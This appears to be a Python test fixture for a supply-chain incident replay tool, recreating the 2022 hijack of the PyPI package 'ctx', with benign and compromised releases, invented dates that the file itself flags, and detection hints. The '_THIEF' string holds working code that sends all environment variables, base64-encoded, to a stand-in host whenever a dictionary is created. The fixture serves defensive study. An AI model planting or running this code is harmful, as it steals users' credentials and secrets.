"""ctx (PyPI, 2022-05-14): the domain of the maintainer's address had lapsed; importing it posts the environment.

By the record: silent for some eight years, then an old version uploaded anew and two more; at import, or when a dictionary is made,
all variables of the environment go to an address. Out for ten days; no install hook.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_CTX = '''class Ctx(dict):
    """A dictionary whose keys are attributes."""

    def __getattr__(self, name):
        return self[name]

    def __setattr__(self, name, value):
        self[name] = value
'''
_THIEF = '''import base64
import os

import requests


class Ctx(dict):
    """A dictionary whose keys are attributes."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.sendRequest()

    def __getattr__(self, name):
        return self[name]

    def __setattr__(self, name, value):
        self[name] = value

    def sendRequest(self):
        string = ""
        for _, value in os.environ.items():
            string += value + " "
        message_bytes = string.encode("ascii")
        base64_bytes = base64.b64encode(message_bytes)
        base64_message = base64_bytes.decode("ascii")
        response = requests.get("https://sink.invalid/marker/" + base64_message)
'''
_BAD = (
    Release(version="0.2.2", at=utc("2022-05-14T00:00:00Z"), files={"ctx.py": _THIEF}),
    Release(version="0.2.6", at=utc("2022-05-21T00:00:00Z"), files={"ctx.py": _THIEF}),
)

INCIDENT = Incident(
    id="ctx-2022",
    title="the maintainer's mail domain had lapsed; making a dictionary posted the environment",
    ecosystem=Ecosystem.PYPI,
    at=_BAD[0].at,
    packages=(
        Package(
            name="ctx",
            releases=(Release(version="0.1.2", at=utc("2014-12-19"), files={"ctx.py": _CTX}), *_BAD),
        ),
    ),
    asks={"ctx": ">=0.1"},
    good={"ctx": "0.1.2"},
    bad={"ctx": ("0.2.2", "0.2.6")},
    guilty={"ctx": ("0.2.2", "0.2.6")},
    gone_at=utc("2022-05-24T00:00:00Z"),
    advisory=Advisory(id="PYSEC", at=utc("2022-05-24T12:00:00Z"), about={"ctx": ("0.2.2", "0.2.6")}),
    invented=(
        "the days of 0.1.2 and 0.2.6, and the advisory's; the upload of 0.1.2 anew is left out, and the dependency on a library for HTTP,"
        " which the replay does not install"
    ),
    reminder=(
        "a hold for a release after eight years of silence (PyPI's index tells no publishers, so the signal that asks who did it says"
        " nothing), a look at the mail domain of the owner, or a hold for code that sends all variables of the environment away when it is"
        " called"
    ),
)
